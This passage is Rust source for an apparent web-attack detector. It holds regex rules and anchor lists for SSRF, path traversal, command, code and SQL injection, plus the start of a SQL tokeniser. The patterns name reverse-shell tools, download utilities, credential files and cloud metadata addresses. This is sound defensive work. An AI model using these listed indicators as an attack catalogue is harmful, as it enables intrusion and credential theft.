            r#"\$[a-z_][a-z_0-9]*\s*(?:\[[^\]]{0,40}\]\s*)*\(\s*["'$]?[a-z0-9_@$"']{0,30}\s*\)|\$\{\s*['"]|\$\{\s*\$[a-z_]|@\$[a-z0-9_]+\s*\(|\$_+\s*\[|\(\s*\[?\s*['"]?(?:system|exec|passthru|shell_exec|assert)['"]?\s*\]?\s*\)\s*\[|\bdefine\s*\(\s*['"][a-z_]+['"]\s*,|\(\s*string\s*\)\s*\{|['"]\s*\.\s*['"](?:tem|ec|sthru|ert)['"]"#,
        ),
        rule(
            "php_injection",
            Medium,
            0.7,
            &[".php", ".phtml", ".phar", ".pht", "sess_"],
            r#"(?:^|\n|filename\s*=\s*"?)[^/\\\s"?&=]{1,100}\.(?:php[0-9s]?|phtml|phar|pht|phps|inc)(?:\s*$|\.{1,3}\s*$|"|\s+\n|\.\.\.)|(?:^|[/\\\n])sess_[a-z0-9,-]{16,}"#,
        ),
        // ---- Node.js, Python and other code
        rule(
            "code_injection",
            High,
            0.9,
            &[
                "require",
                "child_process",
                "process.",
                "__proto__",
                "constructor",
                "import",
                "__import__",
                "subprocess",
                "os.",
                "function(",
                "=>",
                "settimeout",
                "new function",
                "global.",
                "module.",
            ],
            r#"\brequire\s*\(\s*['"`](?:child_process|fs|net|http|vm|os)['"`]\s*\)|\bchild_process\b|\bprocess\s*\.\s*(?:mainmodule|binding|env|exit|kill|dlopen|stdout|version)|\b__proto__\b|\bconstructor\s*(?:\.|\[\s*['"])\s*prototype|\b__import__\s*\(|\bsubprocess\s*\.\s*(?:popen|call|run|check_output)|\bos\s*\.\s*(?:system|popen|exec[lv]p?e?)\s*\(|\beval\s*\(\s*compile\s*\(|\bnew\s+function\s*\(|\bglobal\s*\.\s*process|\bmodule\s*\.\s*(?:require|constructor)|\bfunction\s*\(\s*\)\s*\{[^}]{0,200}\}\s*\(\s*\)|\(\s*function\s*\(|\bthis\s*\.\s*constructor|\bwhile\s*\(\s*(?:true|1|!0|!false)\s*\)|\bwhile\s*\(|\.\s*(?:exec|execsync|spawn|spawnsync|fork)\s*\("#,
        ),
        rule(
            "code_injection",
            Medium,
            0.7,
            &[
                "prototype",
                "__startswith",
                "__regex",
                "__contains",
                "__exact",
                "__in\"",
                "[$",
                "\"$",
            ],
            r#"\bprototype\s*[\[.]|\[\s*\$(?:ne|gt|lt|gte|lte|regex|where|exists|in|nin|or|and|not|expr|text)\s*\]|["']\$(?:ne|gt|lt|gte|lte|regex|where|exists|in|nin|or|and|not|nor|expr|text|elemmatch|function|accumulator)["']\s*:"#,
        ),
        // ---- SSRF
        rule(
            "ssrf",
            High,
            0.95,
            &[
                "169.254",
                "metadata",
                "fd00:ec2",
                "100.100.100.200",
                "a9fe",
                "2852039166",
                "0xa9",
                "169.16689662",
                "0251.0376",
            ],
            r"169\.254\.169\.254|\bmetadata\.google\.internal\b|\bmetadata\.azure\.com\b|\bfd00:ec2::254\b|\b100\.100\.100\.200\b|::ffff:a9fe:a9fe|:ffff:169\.254\.|\b2852039166\b|\b0xa9fea9fe\b|0xa9\.0xfe\.|\b169\.16689662\b|\b0251\.0376\.0251\.0376\b|\bmetadata\.(?:internal|packet\.net|tencentyun\.com)\b|/latest/(?:meta-data|user-data|api/token)|/computemetadata/v1|/metadata/(?:instance|identity)\b|/openstack/latest",
        ),
        rule(
            "ssrf",
            High,
            0.9,
            &[
                "gopher:", "dict:", "jar:", "netdoc:", "ldap:", "tftp:", "sftp:",
            ],
            r"\b(?:gopher|dict|jar|netdoc|tftp)://|\bjar:(?:https?|file|ftp):|\bldap://(?:127\.|localhost|0\.|\[)",
        ),
        rule(
            "ssrf",
            High,
            0.85,
            &["://"],
            r"[a-z][a-z0-9+.-]{1,10}://(?:[^/@\s]{0,64}@)?(?:0x[0-9a-f]{1,8}(?:\.(?:0x[0-9a-f]{1,2}|\d{1,8})){0,3}|0[0-7]{1,3}(?:\.[0-7]{1,4}){0,3}|\d{8,10}|\d{1,3}\.\d{5,8}|\d{1,3}\.\d{1,3}\.\d{3,5}|\[(?:[0:]*:ffff:[0-9a-f.:]+|::1?|0:0:0:0:0:0:0:[01])\]|\[::\]|0\.0\.0\.0|0)(?:[:/?#\s\]]|$)",
        ),
        rule(
            "ssrf",
            Medium,
            0.7,
            &["://"],
            r"[a-z][a-z0-9+.-]{1,10}://(?:[^/@\s]{0,64}@)?(?:localhost:\d|127\.\d{1,3}\.\d{1,3}\.\d{1,3}|10\.\d{1,3}\.\d{1,3}\.\d{1,3}|172\.(?:1[6-9]|2\d|3[01])\.\d{1,3}\.\d{1,3}|192\.168\.\d{1,3}\.\d{1,3}|\[(?:f[cd][0-9a-f]{2}|fe80):[0-9a-f:]*\]|[a-z0-9-]+\.(?:internal|local|localdomain|localtest\.me|nip\.io|xip\.io|sslip\.io))(?:[:/?#\s]|$)",
        ),
        rule(
            "ssrf",
            Medium,
            0.7,
            &[
                "file:",
                "localhost",
                "127.0.0.1",
                "[::",
                "0x7f",
                "2130706433",
                "017700000001",
                "0177.",
                "0.0.0.0",
            ],
            r"\bfile:/{1,3}[a-z0-9~.%]|(?:^|[=\s'\x22(])(?:https?:)?(?:0x7f(?:\.[0-9a-fx]+){0,3}|2130706433|017700000001|0177\.[0-7.]+|\[::ffff:7f[0-9a-f:.]*\]|\[::ffff:127\.[0-9.]+\]|\[0:0:0:0:0:ffff:[0-9a-f:.]+\]|\[::ffff:[0-9a-f]{1,4}:[0-9a-f]{1,4}\]|\[::(?:1)?\])(?:[:/?#\s\]]|$)|(?:^|[=\s])https?:0x[0-9a-f]",
        ),
        rule(
            "ssrf",
            Medium,
            0.6,
            &["169.254", "::ffff:", "0:0:0:0:0:ffff"],
            r"(?:^|[=\s@/\[])(?:169\.254\.\d{1,3}\.\d{1,3}|\[?(?:0:){5}ffff:[0-9a-f.:]+|\[?::ffff:[0-9a-f]{1,4}:[0-9a-f]{1,4}\]?)",
        ),
        // ---- Remote file inclusion
        rule(
            "rfi",
            Medium,
            0.7,
            &["://", "file?", "http?", "https?", "ftp?", "url:"],
            r#"(?:[=\s'"]|^)(?:(?:https?|ftps?|file|url:file|url:https?)://(?:[^/?#\s]{1,100}@)?(?:\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}|[^/?#\s]+)[^?\s]*\?\s*$|(?:^|=)(?:https?|ftp|file)\?$|url:(?:file|https?):)"#,
        ),
        rule(
            "rfi",
            Medium,
            0.65,
            &["://"],
            r#"(?:\?|&|^)[a-z0-9_\[\]]{0,40}(?:file|path|page|include|inc|dir|document|folder|root|conf|config|template|lang|load|url|src|site|location|show|view|content|layout|mod|x|q|u|uri|target|dest|redirect|next|return)[a-z0-9_\[\]]{0,10}=(?:ftp|file|https?)://(?:[^\s&@]*[.%][^\s&@]*@|\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}|[^\s&/]*%2f)"#,
        ),
        // ---- Path traversal and sensitive files
        rule(
            "path_traversal",
            High,
            0.95,
            &["..", "0x2e", "0x5c", "0x2f"],
            r"(?:0x5c|0x2f)(?:0x2e|\.){1,2}\.?(?:%00|\x00)?/|\.\.;[.\\/]|(?:\.|0x2e){2,}(?:[/\\]|0x2f|0x5c)+(?:[^/\\\s]{0,30}[/\\]){0,6}?(?:\.|0x2e){2,}(?:[/\\]|0x2f|0x5c)|\.{3,}/{2,}|(?:\.\.[/\\;]+|\.\.%00/?){2,}|\.\./(?:\./)+",
        ),
        rule(
            "path_traversal",
            Medium,
            0.75,
            &[".."],
            r"(?:^|[=\s/\\'\x22:;,(\[])\.{2,}(?:[/\\]|;/)[a-z0-9_.~%-]|(?:^|[=\x22'])\.{2,}[/\\]?(?:$|[\s&])|[/\\]\.{2,}(?:$|[&#?;\x22'])|(?:^|[=])\.\.[a-z0-9_-]",
        ),
        rule(
            "path_traversal",
            High,
            0.9,
            &[
                "etc/",
                "/etc",
                "proc/",
                "win.ini",
                "boot.ini",
                "system.ini",
                "system32",
                "windows\\",
                "windows/",
                "winnt",
                "id_rsa",
                "id_dsa",
                "id_ecdsa",
                "id_ed25519",
                "htpasswd",
                "htaccess",
                "web.config",
                "wp-config",
                "authorized_keys",
                "known_hosts",
                "/shadow",
                ".bash_history",
                ".aws",
                ".docker",
                ".kube",
                ".git",
                ".env",
                ".ssh",
                "var/log",
                "sys/kernel",
                "sys/class",
                "dev/",
                "root/",
                "usr/local",
                "inetpub",
                "boot/",
                "applicationhost",
                ".cursor",
                ".continue",
                ".windsurf",
                ".zed",
                ".junie",
                ".fabric",
                ".opencode",
                ".n8n",
                ".claude",
                ".aider",
                ".codeium",
                ".roo",
                ".kiro",
                ".vscode",
                ".idea",
                ".github",
                ".clinerules",
                "/@fs/",
                "error.log",
                "access.log",
                "phpinfo",
                ".pgpass",
                ".netrc",
                ".npmrc",
                ".boto",
                ".s3cfg",
                ".gitconfig",
                "_history",
                ".cline",
                ".rovodev",
                ".codex",
                ".a0proj",
                ".plandex",
                ".gemini",
                ".qwen",
                ".amazonq",
                ".augment",
                ".trae",
                ".goose",
                "ignore",
                ".log",
                ".sql.",
                "backup.",
                "/@id/",
                ">",
                "sys/",
            ],
            r"(?:^|[^a-z0-9_.-])(?:/?etc/(?:passwd|shadow|group|gshadow|hosts|hostname|issue|motd|crontab|sudoers|master\.passwd|security/|ssh/|mysql/|apache2?/|nginx/|httpd/|php[0-9.]*/|resolv\.conf|fstab|mtab|profile|environment|subuid|subgid|os-release|lsb-release|redhat-release|debian_version|network/|sysconfig/|init\.d/|rc\.d|inittab|ld\.so|pam\.d|shells|exports|ftpusers|vsftpd|samba|my\.cnf|krb5|opasswd|pwd\.db|spwd\.db|netrc|aliases|[a-z0-9_.-]{1,30}\.conf)|/?proc/(?:self|\d+|version|cpuinfo|meminfo|mounts|net/|sys/|cmdline|environ|interrupts|kcore|modules|partitions|stat|filesystems|config\.gz|sched_debug|devices|ioports|iomem|kallsyms|loadavg|uptime|swaps|vmstat|zoneinfo|buddyinfo|diskstats|crypto|slabinfo|timer_list|keys|key-users|misc|fb|dma|bus/)|/?sys/(?:kernel|class|devices|block|bus|firmware|fs|module|power)(?:/|$|[\s=&])|(?:[a-z]:)?[/\\]?(?:windows|winnt)[/\\](?:win\.ini|system\.ini|system32|syswow64|repair|debug|panther|php\.ini|iis[0-9]*\.log|inf|temp|tasks)|\bwin\.ini\b|\bboot\.ini\b|\bsystem\.ini\b|\bapplicationhost\.config\b|\bweb\.config\b|\bwp-config(?:\.php|_php)|\.htpasswd\b|\.htaccess\b|\bauthorized_keys\b|\bknown_hosts\b|\.ssh/|\bid_(?:rsa|dsa|ecdsa|ed25519)(?:\.pub)?\b|\.bash_history\b|\.zsh_history\b|\.mysql_history\b|\.psql_history\b|\.aws/(?:credentials|config)|\.docker/(?:config\.json|secrets)|\.kube/config|\.git/(?:config|head|index|logs)|\.gitconfig\b|\.npmrc\b|\.pgpass\b|\.netrc\b|\.boto\b|\.s3cfg\b|(?:^|/)\.env(?:\.[a-z]+)?(?:$|[\s?#]|/)|/var/log/|/var/(?:lib|run|mail|spool|www/\.|db)/|/root/|/home/[a-z0-9_-]+/\.|/dev/(?:tcp|udp|null|zero|random|urandom|mem|kmem|shm|fd|stdin|stdout|stderr)|/usr/local/(?:etc|apache|lib)|\binetpub\b|/boot/(?:grub|vmlinuz|config)|\bsam$|/config/sam\b|/etc$|\.(?:cursor|continue|windsurf|zed|junie|fabric|opencode|n8n|claude|aider|codeium|roo|kiro|vscode|idea|cline|rovodev|codex|a0proj|plandex|gemini|qwen|amazonq|augment|trae|goose|github/copilot)[/\\]|\.(?:aiignore|codeiumignore|geminiignore|aiexclude)\b|\b(?:debug|errors?|php_errors?|install|laravel|django)\.log\b|\.sql\.(?:zip|gz|tgz|bz2|7z|rar)\b|\bbackup\.(?:sql|zip|tar\.gz|tgz|bak)\b|/@id/|(?:^|=)\s*>\s*/(?:tmp|var|etc|dev|usr|home|root)/|\.(?:cursorignore|cursorrules|clinerules|aiderignore|windsurfrules)\b|/@fs/|\berror\.log\b|\baccess\.log\b|\bphpinfo\.php\b)",
        ),
        rule(
            "path_traversal",
            Medium,
            0.7,
            &["\0", "::$data", "\\\\"],
            r"[a-z0-9/]\x00\.?[a-z]{0,5}(?:$|[\s&])|::\$data|(?:^|[=\s])\\\\[a-z0-9.]+\\",
        ),
        // ---- Command injection, shapes that need no word list
        rule(
            "command_injection",
            High,
            0.95,
            &[
                "/bin/",
                "/etc/",
                "/usr/",
                "/proc/",
                "/dev/",
                "/tmp/",
                "/var/",
                "/home/",
                "bin/",
                "$",
                ">(",
                ".shell",
                ".system",
                ".databases",
                ".tables",
                ".dump",
                "{",
                "/usr/bin",
                "/dev/tcp",
                "/dev/udp",
                "cmd",
                "powershell",
                "pwsh",
                "${ifs",
                "$ifs",
                "() {",
                "(){",
                "()\t{",
                "bash",
                "sh -",
                "|sh",
                "| sh",
                "nc -",
                "ncat",
                "socat",
                "mkfifo",
                "<(",
                "$((",
                "$[",
                "<<<",
                "iex",
                "invoke-",
                "iwr",
                "wget",
                "curl",
                "/???",
                "/?",
                "{,",
                "%comspec%",
                "%systemroot%",
                "certutil",
                "bitsadmin",
                "mshta",
                "rundll32",
                "regsvr32",
                "wscript",
                "cscript",
                "ftp ",
                "tftp",
            ],
            r#"(?:^|[^a-z0-9_.-])/(?:usr/)?s?bin/[a-z0-9_.-]+|/dev/(?:tcp|udp)/|\bcmd(?:\.exe)?\s*/[ck]\b|\bpowershell(?:\.exe)?\b|\bpwsh\b|\$\{?ifs\}?|\(\s*\)\s*\{\s*:\s*;|(?:^|[=\x22'\n])\s*\(\s*\)\s*\{|\|\s*(?:ba|z|k|da)?sh\b\s*(?:$|[\n#;&|)])|(?:[;&|`]|\$\()\s*\$[a-z_]+\s+-[a-z]|(?:^|[=\s/])/?(?:etc|s?bin|usr|dev|proc|tmp|var|home)/[a-z0-9/._-]*\[[!^]?[a-z0-9-]{1,10}\]|\b(?:ba|z|k|c|tc|da|fi)?sh\s+-[a-z]*[ci]\b|\bnc(?:at)?(?:\.exe)?\s+(?:-[a-z]*[elvnup]|[0-9a-z.-]+\s+\d{2,5})|\bsocat\b|\bmkfifo\b|<\(\s*[a-z]|\$\(\(|\$\[\s*[\d\]]|<<<|\biex\b|\binvoke-(?:expression|webrequest|restmethod|command|item|wmimethod)\b|\biwr\s|\b(?:new-object|start-process|downloadstring|downloadfile|set-executionpolicy|get-wmiobject|add-mppreference)\b|\b(?:wget|curl)\s+(?:-[a-z-]+\s+)*['"]?(?:https?|ftp)?:?/{0,2}[a-z0-9.-]+\.[a-z0-9]|/\?{2,}/|/[a-z?*]{0,3}\?[a-z?*]{0,3}/[a-z?*]*\?|\{\s*,\s*[a-z$"'][^{}\s]{0,40}\}|\{[0-9-]{0,10}[a-z$"'][a-z0-9$"'\\-]{0,20},[^{}\s:]{0,40}\}|\$\{?(?:shell|ifs)\b|>\(\s*[a-z]|(?:^|[;\n"']|\\n)\.(?:shell|system|databases|tables|dump|read|import|output|load|open|once)\b|%(?:comspec|systemroot|windir|programfiles|temp|appdata|userprofile|systemdrive)%|\b(?:certutil|bitsadmin|mshta|rundll32|regsvr32|wscript|cscript|wmic|schtasks|vssadmin|bcdedit|bcdboot|reg\s+(?:add|query|delete)|net\s+(?:user|localgroup|share|use|view)|taskkill|tasklist|systeminfo|whoami)\b"#,
        ),
        rule(
            "command_injection",
            High,
            0.9,
            &[
                "%",
                "exist",
                "defined",
                "errorlevel",
                "cmdextversion",
                "==",
                " equ ",
                " neq ",
                " lss ",
                " leq ",
                " gtr ",
                " geq ",
                "goto",
                "call :",
            ],
            r#"(?:^|[&|;\s(=])for\s+(?:/[a-z]\s+(?:[a-z]:\\\S*\s+)?)*(?:"[^"]{0,60}"\s+)?%{1,2}[^\s%]{1,20}%{0,2}\s+in\s*\(|(?:^|[&|;(=\n])\s*if\s*(?:/i\s+)?(?:not\s+)?(?:exist|defined|errorlevel|cmdextversion)\b|(?:^|[&|;(=\n])\s*if\s*(?:/i\s+)?(?:not\s+)?(?:\S{1,40}\s+(?:equ|neq|lss|leq|gtr|geq)\s|(?:"[^"]{0,40}"|\[[^\]]{0,20}\]|\([^)\s]{1,20}\)|\{[^}\s]{0,20}\}|[a-z0-9_%/?~]{1,20})\s*={2,3}\s*(?:"[^"]{0,40}"|\[[^\]]{0,20}\]|\([^)\s]{1,20}\)|\{[^}\s]{0,20}\}|[a-z0-9_%/?~]{1,20})(?:\s+(?:\(|@?echo|goto|set|call|exit|cmd|start|cd|[a-z.]+\b[^:\n]*(?:$|\n))|\s*(?:$|\n)))|\bgoto\s+:?[a-z_]+\b.{0,10}$|\bcall\s+:[a-z]"#,
        ),
        rule(
            "command_injection",
            Medium,
            0.75,
            &["~", "!!", "!-"],
            r#"(?:^|[=;|&])~[+-]?\d*(?:[ \t]*\d{0,3}[ \t]*(?:$|[\n;&|])|/)|(?:^|[=;|&])!(?:!|-?\d+)(?:$|[\s;&|!])|(?:^|[=;|&])![-]\d+![-]\d+"#,
        ),
        rule(
            "command_injection",
            High,
            0.9,
            &[
                "alias ", "alias%", "\\!", "-c:", ":!", ".shell", "+silent", "-ex ",
            ],
            r#"(?:^|[;&|`\s=])alias\s+[^\s=]{1,30}\s*=|\\!\s*(?:whoami|id|pwd|sh|bash|ls|cat)\b|-c\s*:\s*\\?!|\.shell\s|\+silent|(?:^|\s)-ex\s+\\?!"#,
        ),
        rule(
            "command_injection",
            Medium,
            0.75,
            &["${", "(sh)", "( sh", "(bash", "( bash"],
            // Bash-only parameter operators (`${PATH#*:}`, `${HOME:0:1}`, `${x%/*}`) cut
            // characters out of variables to spell a command; `(sh)` runs a subshell.
            r"\$\{[a-z_][a-z0-9_]{0,30}(?:##?|%%?|:[-+=?]?\d)[^}\s]{0,30}\}|\(\s*(?:ba|da|z|k)?sh\s*\)",
        ),
        rule(
            "command_injection",
            Medium,
            0.75,
            &["$"],
            r"(?:^|[;&|`(\s=])\$\{?[a-z_][a-z0-9_]{0,15}\}?\$\{?[a-z_][a-z0-9_]{0,15}",
        ),
        rule(
            "command_injection",
            High,
            0.85,
            &[":(){", ":|:", "f(){", "(){", "() {"],
            r"[a-z.:_]+\s*\(\s*\)\s*\{[^}]{0,40}\|[^}]{0,40}&\s*\}|[a-z.:_]+\s*\(\s*\)\s*\{[^}]{0,40}[|&][^}]{0,40}\}\s*;?\s*[a-z.:_]{1,10}\s*(?:$|\n)",
        ),
        // ---- SQL patterns strong on their own
        rule(
            "sqli",
            High,
            0.95,
            &[
                "sleep",
                "benchmark",
                "waitfor",
                "pg_sleep",
                "dbms_",
                "utl_",
                "xp_",
                "sp_",
                "load_file",
                "outfile",
                "dumpfile",
                "information_schema",
                "extractvalue",
                "updatexml",
                "xmltype",
                "@@",
                "sysobjects",
                "pg_catalog",
                "msysaccessobjects",
                "sqlite_",
                "lo_import",
                "lo_get",
                "openrowset",
                "opendatasource",
                "mysql.",
                "name_const",
                "procedure analyse",
                "nvarchar",
                "msdasql",
                "sysdatabases",
                "sys.",
                "master..",
            ],
            r#"\b(?:sleep|pg_sleep|benchmark)\s*(?:/\*.*?\*/\s*)*\(\s*(?:/\*.*?\*/\s*)*[-+('"\d.]|\bwaitfor\s*(?:/\*.*?\*/\s*)*(?:delay|time)\s*['"\d]|\b(?:dbms_(?:pipe|lock|ldap|xmlgen|java|output|sql|utility|xmlquery|aw)|utl_(?:http|inaddr|smtp|tcp|file))\s*\.|\bxp_(?:cmdshell|dirtree|fileexist|regread|regwrite|servicecontrol|availablemedia|subdirs|makecab|ntsec|terminate|execresultset|loginconfig|enumgroups|grantlogin|msver)\b|\bsp_(?:password|executesql|oacreate|oamethod|makewebtask|addextendedproc|configure|adduser|addlogin|addsrvrolemember|helpdb|execute)\b|\bload_file\s*\(|\binto\s+(?:dump|out)file\b|\binformation_schema\b|\b(?:extractvalue|updatexml|xmltype)\s*\(|@@(?:version|datadir|hostname|basedir|servername|identity|spid|tmpdir|global|session|sql_mode|user)|\bsysobjects\b|\bsyscolumns\b|\bsysdatabases\b|\bpg_(?:catalog|shadow|user|database|tables|namespace|class|proc|read_file|ls_dir|stat_file)\b|\bmsysaccessobjects\b|\bmsysobjects\b|\bsqlite_(?:master|version|compileoption_used|compileoption_get|schema|temp_master)\b|\blo_(?:import|export|get|put|from_bytea)\s*\(|\bopen(?:rowset|datasource|query|xml)\b|\bmysql\.(?:user|db|host|tables_priv)\b|\bname_const\s*\(|\bprocedure\s+analyse\b|\bmsdasql\b|\bsys\.(?:objects|tables|columns|databases|sql_logins|server_principals|user_objects|all_tables|dba_users)\b|\bmaster\.(?:dbo\.|\.)|\b(?:all|dba|user)_(?:tables|users|tab_columns|objects)\b|\bnvarchar\b|\bunion(?:\s|/\*.*?\*/|\(|%)+(?:all|distinct(?:row)?)?(?:\s|/\*.*?\*/|\()*select\b|\bselect\s*\(?\s*(?:sleep|benchmark|pg_sleep|if|case|load_file|version|user|database|@@)\b"#,
        ),
        rule(
            "sqli",
            High,
            0.9,
            &["char(", "chr(", "concat", "0x"],
            r"\b(?:char|chr|nchar)\s*\(\s*\d+\s*\)\s*(?:\+|\|\||,)\s*(?:char|chr|nchar)\s*\(|\bconcat(?:_ws)?\s*\(\s*(?:0x[0-9a-f]{4,}|char\s*\(|@@|user\s*\(|version\s*\(|database\s*\()|\b0x[0-9a-f]{6,}\s*,\s*\(?\s*select\b",
        ),
        rule(
            "sqli",
            Medium,
            0.7,
            &[
                "tempdb",
                "msdb",
                "northwind",
                "schema_name",
                "db_name",
                "database(",
                "sysusers",
                "table_name",
                "column_name",
                "table_schema",
                "table_schema",
                "sysusers",
            ],
            r"\b(?:tempdb|msdb|northwind|sysusers)\b|\b(?:schema_name|db_name|database|current_database|current_schema)\s*\(|\b(?:table_name|column_name|table_schema)\b",
        ),
    ];
    let rules: Vec<Rule> = list.into_iter().flatten().collect();
    let mut patterns: Vec<&'static str> = Vec::new();
    let mut anchor_rules: Vec<Vec<usize>> = Vec::new();
    let mut any_bytes: Vec<Vec<u8>> = vec![Vec::new(); rules.len()];
    let mut all_bytes: Vec<Vec<u8>> = vec![Vec::new(); rules.len()];
    for (i, r) in rules.iter().enumerate() {
        for a in r.anchors {
            let ab = a.as_bytes();
            if let (2, Some(b'^'), Some(&b)) = (ab.len(), ab.first(), ab.get(1)) {
                if let Some(list) = all_bytes.get_mut(i) {
                    list.push(b);
                }
                continue;
            }
            if let (1, Some(&b)) = (ab.len(), ab.first()) {
                if let Some(list) = any_bytes.get_mut(i) {
                    list.push(b.to_ascii_lowercase());
                }
                continue;
            }
            match patterns.iter().position(|p| p == a) {
                Some(k) => {
                    if let Some(v) = anchor_rules.get_mut(k) {
                        v.push(i);
                    }
                }
                None => {
                    patterns.push(a);
                    anchor_rules.push(vec![i]);
                }
            }
        }
    }
    // The view is already lower case, so the automaton need not fold case.
    let lowered: Vec<String> = patterns.iter().map(|p| p.to_ascii_lowercase()).collect();
    let anchors = AhoCorasickBuilder::new()
        .match_kind(MatchKind::Standard)
        .build(&lowered)
        .ok();
    Rules {
        rules,
        anchors,
        anchor_rules,
        any_bytes,
        all_bytes,
    }
});

/// DOM event handler names, for the `on…=` check.
const EVENTS: &str = "abort|activate|afterprint|afterscriptexecute|afterupdate|animationcancel|animationend|animationiteration|animationstart|auxclick|beforeactivate|beforecopy|beforecut|beforedeactivate|beforeeditfocus|beforeinput|beforepaste|beforeprint|beforescriptexecute|beforetoggle|beforeunload|beforeupdate|begin|blur|bounce|cancel|canplay|canplaythrough|cellchange|change|click|close|contextmenu|controlselect|copy|cuechange|cut|dataavailable|datasetchanged|datasetcomplete|dblclick|deactivate|drag|dragdrop|dragend|dragenter|dragexit|dragleave|dragover|dragstart|drop|durationchange|emptied|end|ended|error|errorupdate|filterchange|finish|focus|focusin|focusout|formdata|fullscreenchange|gesturechange|hashchange|help|input|invalid|keydown|keypress|keyup|layoutcomplete|load|loadeddata|loadedmetadata|loadend|loadstart|losecapture|message|mousedown|mouseenter|mouseleave|mousemove|mouseout|mouseover|mouseup|mousewheel|move|moveend|movestart|mozfullscreenchange|offline|online|pagehide|pageshow|paste|pause|play|playing|pointercancel|pointerdown|pointerenter|pointerleave|pointermove|pointerout|pointerover|pointerrawupdate|pointerup|popstate|progress|propertychange|ratechange|readystatechange|repeat|reset|resize|resizeend|resizestart|rowenter|rowexit|rowsdelete|rowsinserted|scroll|scrollend|search|seek|seeked|seeking|select|selectionchange|selectstart|show|stalled|start|storage|submit|suspend|timeupdate|toggle|touchcancel|touchend|touchmove|touchstart|transitioncancel|transitionend|transitionrun|transitionstart|unhandledrejection|unload|volumechange|waiting|webkitanimationend|webkitanimationiteration|webkitanimationstart|webkitplaybacktargetavailabilitychanged|webkittransitionend|wheel|beforehellfreezes|[a-z]{3,20}";

fn regex_rules(v: &[u8], out: &mut Vec<Hit>) {
    let rules = &*RULES;
    let Some(ac) = rules.anchors.as_ref() else {
        return;
    };
    let mut present = [false; 256];
    for &b in v {
        if let Some(p) = present.get_mut(b as usize) {
            *p = true;
        }
    }
    let has = |b: &u8| present.get(*b as usize).copied().unwrap_or(false);
    let mut wanted: Vec<bool> = rules
        .any_bytes
        .iter()
        .map(|bytes| bytes.iter().any(has))
        .collect();
    for m in ac.find_overlapping_iter(v) {
        if let Some(list) = rules.anchor_rules.get(m.pattern().as_usize()) {
            for &i in list {
                if let Some(w) = wanted.get_mut(i) {
                    *w = true;
                }
            }
        }
    }
    for (i, r) in rules.rules.iter().enumerate() {
        if !wanted.get(i).copied().unwrap_or(false) {
            continue;
        }
        if !rules.all_bytes.get(i).is_none_or(|req| req.iter().all(has)) {
            continue;
        }
        // A handful of matches per rule is enough to report; bound the work on hostile input.
        for m in r.re.find_iter(v).take(8) {
            out.push(hit(r.kind, r.severity, r.confidence, m.start(), m.end()));
        }
    }
}

// ---------------------------------------------------------------------------------------------
// SQL: tokeniser and fingerprints

/// Token classes, as single fingerprint letters (after libinjection).
mod tok {
    pub const STRING: u8 = b's';
    pub const NUMBER: u8 = b'n';
    pub const KEYWORD: u8 = b'k';
    pub const FUNCTION: u8 = b'f';
    pub const OPERATOR: u8 = b'o';
    pub const LOGIC: u8 = b'&';
    pub const UNION: u8 = b'U';
    pub const STATEMENT: u8 = b'E';
    pub const COMMENT: u8 = b'c';
    pub const VARIABLE: u8 = b'v';
    pub const WORD: u8 = b'w';
    pub const LPAREN: u8 = b'(';
    pub const RPAREN: u8 = b')';
    pub const COMMA: u8 = b',';
    pub const SEMI: u8 = b';';
    pub const COLON_CAST: u8 = b't';
    /// Arithmetic and bit operators (`+ - * / % ^ | & ~ << >>`).
    pub const ARITH: u8 = b'a';
    /// Operators of programming languages, not SQL (`==`, `===`, `=>`, `->`, `**`, `:`, `>>>`).
    pub const PROG: u8 = b'p';
}

const STATEMENTS: &[&str] = &[
    "select",
    "insert",
    "update",
    "delete",
    "drop",
    "create",
    "alter",
    "truncate",
    "exec",
    "execute",
    "declare",
    "shutdown",
    "waitfor",
    "deallocate",
];
const LOGIC_WORDS: &[&str] = &["and", "or", "xor", "not"];
const KEYWORDS: &[&str] = &[
    "set",
    "from",
    "where",
    "having",
    "group",
    "order",
    "by",
    "limit",
    "offset",
    "into",
    "values",
    "table",
    "like",
    "rlike",
    "regexp",
    "glob",
    "sounds",
    "between",
    "in",
    "is",
    "null",
    "case",
    "when",
    "then",
    "else",
    "end",
    "as",
    "all",
    "distinct",
    "distinctrow",
    "join",
    "outfile",
    "dumpfile",
    "delay",
    "procedure",
    "collate",
    "escape",
    "notnull",
    "isnull",
    "similar",
    "exists",
    "straight_join",
    "inner",
    "outer",
    "cross",
    "except",
    "intersect",
    "returns",
    "if",
    "elt",
    "ilike",
    "against",
    "localtime",
    "current_user",
    "session_user",
    "system_user",
    "nocase",
    "varchar",
    "bigint",
    "jsonb",
    "columns",
    "tables",
    "dual",
    "sysdate",
];
const SQL_FUNCTIONS: &[&str] = &[
    "abs",
    "ascii",
    "avg",
    "benchmark",
    "bin",
    "bit_length",
    "cast",
    "ceil",
    "ceiling",
    "char",
    "char_length",
    "charindex",
    "chr",
    "coalesce",
    "collation",
    "compress",
    "concat",
    "concat_ws",
    "connection_id",
    "conv",
    "convert",
    "cos",
    "cot",
    "count",
    "crc32",
    "current_database",
    "current_schema",
    "current_user",
    "database",
    "date",
    "date_format",
    "datediff",
    "day",
    "db_name",
    "decode",
    "default",
    "degrees",
    "elt",
    "encode",
    "exp",
    "export_set",
    "extractvalue",
    "field",
    "find_in_set",
    "floor",
    "format",
    "found_rows",
    "from_base64",
    "glob",
    "greatest",
    "group_concat",
    "hex",
    "if",
    "ifnull",
    "iif",
    "instr",
    "is_srvrolemember",
    "isnull",
    "json",
    "json_array",
    "json_extract",
    "json_keys",
    "json_object",
    "json_search",
    "json_valid",
    "jsonb_pretty",
    "json_build_object",
    "last_insert_id",
    "lcase",
    "least",
    "left",
    "len",
    "length",
    "likelihood",
    "likely",
    "ln",
    "load_file",
    "locate",
    "log",
    "log10",
    "log2",
    "lower",
    "lpad",
    "ltrim",
    "make_set",
    "max",
    "md5",
    "mid",
    "min",
    "mod",
    "month",
    "name_const",
    "now",
    "nullif",
    "oct",
    "octet_length",
    "ord",
    "overlay",
    "pg_sleep",
    "pi",
    "position",
    "pow",
    "power",
    "quote",
    "radians",
    "rand",
    "randomblob",
    "repeat",
    "replace",
    "reverse",
    "right",
    "round",
    "row_count",
    "rpad",
    "rtrim",
    "schema",
    "schema_name",
    "sha",
    "sha1",
    "sha2",
    "sign",
    "sin",
    "sleep",
    "soundex",
    "space",
    "sqrt",
    "starts_with",
    "strcmp",
    "string_agg",
    "string_to_array",
    "substr",
    "substring",
    "substring_index",
    "sum",
    "sysdate",
